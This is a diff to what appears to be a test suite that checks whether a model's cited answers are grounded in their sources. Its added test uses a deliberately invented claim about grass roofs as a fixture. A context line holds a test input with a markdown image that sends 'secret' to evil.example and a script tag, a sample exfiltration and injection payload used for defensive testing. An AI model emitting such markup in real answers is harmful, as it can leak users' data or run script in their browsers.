@@ -518,6 +518,24 @@ describe('an answer of a model', () => {
     expect(answer).toMatchObject({ markersRemoved: 1, claims: 5, claimsUnsupported: 3 });
   });
 
+  it('makes no source say in its words what no sentence of the source says', async () => {
+    const lyon = readSourceOf(studyArticle('Grass roofs of Lyon', { authors: 'Luc Roux' }), [
+      'Grass roofs | rooms | below\n3 | 4 | 5',
+    ]);
+    const invented = 'Grass roofs did not cool the rooms below them.';
+    const answer = await ask([bergen, delft, lyon], (prompt) => {
+      const places = [...prompt.matchAll(/number="(\d+)"[^>]*>([^<]*)/g)];
+      const numberOf = (words: string): string =>
+        places.find(([, , text = '']) => text.includes(words))?.[1] ?? '';
+      return `Grass roofs cooled rooms by 2.1 degrees [${numberOf('2.1')}]. ${invented.slice(0, -1)} [${numberOf('rooms | below')}].`;
+    });
+    expect(answer.paragraphs.flat().map(({ text }) => text)).toContain(invented);
+    const said = answer.positions.flatMap(({ statements }) => statements);
+    expect(said.length).toBeGreaterThan(0);
+    expect(said.map(({ text }) => text)).not.toContain(invented);
+    expect(answer.contradicts).toBe(false);
+  });
+
   it.each([
     ['invents every marker', () => 'Grass roofs cool rooms [8]. They do so always [99].'],
     ['writes markup', () => '![x](https://evil.example/p.png?q=secret) <script>alert(1)</script>'],
